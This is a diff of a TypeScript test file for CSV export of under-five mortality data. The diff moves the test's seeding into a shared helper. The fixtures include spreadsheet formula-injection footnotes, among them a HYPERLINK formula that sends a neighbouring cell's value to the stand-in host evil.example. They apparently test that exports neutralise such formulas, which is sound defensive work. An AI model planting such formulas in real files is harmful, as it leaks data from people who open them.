@@ -2,13 +2,13 @@ import assert from 'node:assert/strict';
 import { Readable } from 'node:stream';
 import { describe, it } from 'node:test';
 import { parse } from 'csv-parse/sync';
-import { prepareStore } from '../../src/cli/prepare-store.ts';
 import { parseUpload } from '../../src/ingest/upload/index.ts';
-import { insertObservations, setSettings, upsertAreas, upsertSeries, upsertSource, type Store } from '../../src/store/index.ts';
+import type { Store } from '../../src/store/index.ts';
 import { apiSuite } from '../support/api-suite.ts';
 import { signIn } from '../support/auth.ts';
 import { observation, year } from '../support/builders.ts';
 import { dialectOptions, STORE_DIALECTS } from '../support/stores.ts';
+import { seedUnderFiveMortality } from '../support/under-five-seed.ts';
 import { BGD_CONTEXT } from '../ingest/upload-fixtures.ts';
 
 /** A footnote that would send the neighbouring cell to another site if a spreadsheet ran it as a formula. */
@@ -16,19 +16,12 @@ const HYPERLINK = '=HYPERLINK("http://evil.example/x?"&A1,"Click for details")';
 
 /** Three values of 3.2.1 with footnotes a spreadsheet would run (`=`, `@`, `-`), one negative value, one plain note. */
 async function seed(store: Store): Promise<void> {
-  await prepareStore(store);
-  await store.db.transaction().execute(async (trx) => {
-    await upsertAreas(trx, [{ code: '050', parent: null, level: 'country', names: { en: 'Bangladesh' }, m49: '050', iso3: 'BGD', codes: {} }]);
-    await setSettings(trx, { country: '050', country_name: 'Bangladesh' });
-    await upsertSeries(trx, [{ code: 'SH_DYN_MORT', name: 'Under-five mortality rate', unit: 'PER_1000_LIVE_BIRTHS', indicators: [{ indicatorId: '3.2.1', relation: 'measures' }] }]);
-    const source = await upsertSource(trx, { key: 'test:formulas', kind: 'test', title: 'Footnotes', licence: 'CC BY 4.0' }, '2026-01-01');
-    await insertObservations(store, trx, source, [
-      observation({ period: year('2019'), value: 31.1, attributes: { COMMENT_OBS: HYPERLINK } }),
-      observation({ period: year('2020'), value: -5, attributes: { COMMENT_OBS: '@SUM(A1:A9)' } }),
-      observation({ period: year('2021'), value: 27.3, attributes: { COMMENT_OBS: '-2+3 revised' } }),
-      observation({ period: year('2022'), value: 26.1, attributes: { COMMENT_OBS: 'Estimate, "UN IGME"' } }),
-    ]);
-  });
+  await seedUnderFiveMortality(store, 'test:formulas', [
+    observation({ period: year('2019'), value: 31.1, attributes: { COMMENT_OBS: HYPERLINK } }),
+    observation({ period: year('2020'), value: -5, attributes: { COMMENT_OBS: '@SUM(A1:A9)' } }),
+    observation({ period: year('2021'), value: 27.3, attributes: { COMMENT_OBS: '-2+3 revised' } }),
+    observation({ period: year('2022'), value: 26.1, attributes: { COMMENT_OBS: 'Estimate, "UN IGME"' } }),
+  ]);
 }
 
 for (const dialect of STORE_DIALECTS) {
